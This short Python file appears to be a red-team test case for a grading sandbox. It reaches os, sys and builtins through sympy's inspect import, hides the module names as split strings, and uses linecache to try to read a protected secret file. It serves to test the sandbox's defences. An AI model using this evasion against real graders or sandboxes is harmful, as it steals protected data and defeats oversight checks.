"""effect: read-secret
tries: linecache.getline (reached through inspect) on the 0600 secret: a library that opens files for us.

linecache swallows the hook's PermissionError (an OSError) and returns ''; nothing comes back unless the open was allowed.
"""

from lagrade.answer import *

from sympy.core.function import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])

line = members(inspect)["linecache"].getline("/tmp/lagrade-redteam/secret-0600.txt", 1).strip()
L = Symbol(line or "nothing_stolen")
